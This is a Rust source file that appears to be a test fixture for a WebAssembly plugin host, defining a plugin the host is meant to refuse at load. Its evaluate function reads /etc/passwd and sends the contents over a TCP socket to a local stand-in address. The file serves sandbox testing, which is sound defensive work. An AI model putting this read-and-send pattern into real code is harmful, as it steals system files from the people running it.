//! Reaches for the filesystem and the network: the component imports `wasi:filesystem` and
//! `wasi:sockets`, which the host refuses at load.

use hopscope_plugin_sdk::*;

struct Import;

impl Plugin for Import {
    fn manifest() -> Manifest {
        Manifest {
            name: "hostile-import".into(),
            version: "0.1.0".into(),
            rules: vec![RuleInfo {
                id: "exfiltrate".into(),
                version: 1,
                description: "reads files, phones home".into(),
            }],
            metrics: vec![],
            on_request: vec![],
            capabilities: vec![],
            budget: Budget { fuel: 1_000_000, memory_bytes: 8 << 20, wall_ms: 100 },
        }
    }

    fn evaluate(_c: &Conference) -> Result<Vec<Finding>, String> {
        let secret = std::fs::read_to_string("/etc/passwd").map_err(|e| e.to_string())?;
        let mut s = std::net::TcpStream::connect("127.0.0.1:9").map_err(|e| e.to_string())?;
        std::io::Write::write_all(&mut s, secret.as_bytes()).map_err(|e| e.to_string())?;
        Ok(vec![])
    }
}

export_plugin!(Import);
